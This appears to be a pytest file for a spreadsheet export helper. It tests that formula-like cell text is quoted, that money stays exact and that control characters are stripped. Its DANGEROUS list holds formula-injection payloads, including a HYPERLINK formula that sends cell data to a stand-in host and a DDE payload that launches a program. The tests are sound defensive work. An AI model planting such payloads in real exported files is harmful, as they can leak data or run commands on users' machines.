"""The export helper: formulas never run, money stays exact, control characters never crash."""

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from shouhou.core import exports

DANGEROUS = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def roundtrip(values):
    wb = exports.new_workbook("t")
    exports.write_row(wb.active, values)
    return load_workbook(io.BytesIO(exports.workbook_bytes(wb))).active


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_starts_like_a_formula_is_written_as_quoted_text(text):
    cell = roundtrip([text])["A1"]
    assert cell.data_type == "s"
    assert cell.value.strip() == text.strip()  # XML turns a lone CR into LF
    assert cell.quotePrefix is True


def test_plain_text_is_left_as_it_is():
    cell = roundtrip(["张三 13800001111"])["A1"]
    assert cell.value == "张三 13800001111" and cell.data_type == "s" and not cell.quotePrefix


def test_money_is_a_number_with_the_yuan_format_from_decimal():
    ws = roundtrip([exports.money(Decimal("1234567890.12")), Decimal("0.1")])
    assert ws["A1"].data_type == "n" and ws["A1"].number_format == exports.MONEY_FORMAT
    assert str(ws["A1"].value) == "1234567890.12"
    assert ws["B1"].value == pytest.approx(0.1)


def test_money_refuses_floats():
    with pytest.raises(TypeError):
        exports.money(0.1)


def test_control_characters_are_dropped_instead_of_crashing():
    assert roundtrip(["a\x01b\x1fc"])["A1"].value == "abc"


def test_sheet_titles_are_made_acceptable():
    assert exports.safe_title("a/b:c" + "x" * 40) == ("a-b-c" + "x" * 40)[:31]
